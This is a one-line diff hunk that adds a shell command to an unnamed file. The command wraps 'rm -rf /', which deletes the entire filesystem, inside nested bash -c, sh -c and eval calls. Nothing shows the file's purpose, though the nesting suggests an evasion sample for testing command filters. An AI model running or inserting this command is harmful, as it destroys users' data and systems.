@@ -1,0 +1,1 @@
+bash -c "sh -c 'eval \"rm -rf /\"'"
